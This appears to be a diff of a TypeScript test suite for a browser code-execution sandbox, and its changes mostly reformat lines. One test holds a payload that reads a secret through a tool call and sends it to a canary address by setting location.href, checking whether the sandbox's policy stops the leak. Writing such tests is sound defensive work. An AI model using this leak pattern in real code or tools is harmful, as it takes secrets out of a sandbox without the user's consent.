@@ -28,7 +28,10 @@ async function stall(work: () => Promise<unknown>): Promise<number> {
 }
 
 const play = (executor: Executor, code: string, list: () => Promise<unknown> = async () => 'secret') =>
-  createBrowserCodeTool({ tools: { list: { description: 'lists', inputSchema: { type: 'object', properties: {} }, execute: list } }, executor })
+  createBrowserCodeTool({
+    tools: { list: { description: 'lists', inputSchema: { type: 'object', properties: {} }, execute: list } },
+    executor,
+  })
     .execute({ code })
     .then(
       ({ result, logs }) => ({ result, logs, error: undefined }),
@@ -63,7 +66,8 @@ describe('a synchronous loop of two seconds, with a timeout of half a second', (
 })
 
 describe('a program that navigates to an address with what it has read', () => {
-  const leak = (mark: string) => `async () => { const secret = await codemode.list({}); try { location.href = ${JSON.stringify(canary(mark))} + '?' + secret } catch (e) { return e.name } await new Promise((done) => setTimeout(done, 300)) }`
+  const leak = (mark: string) =>
+    `async () => { const secret = await codemode.list({}); try { location.href = ${JSON.stringify(canary(mark))} + '?' + secret } catch (e) { return e.name } await new Promise((done) => setTimeout(done, 300)) }`
 
   it('its own executor: the secret reaches the server, past its policy', async () => {
     const mark = token()
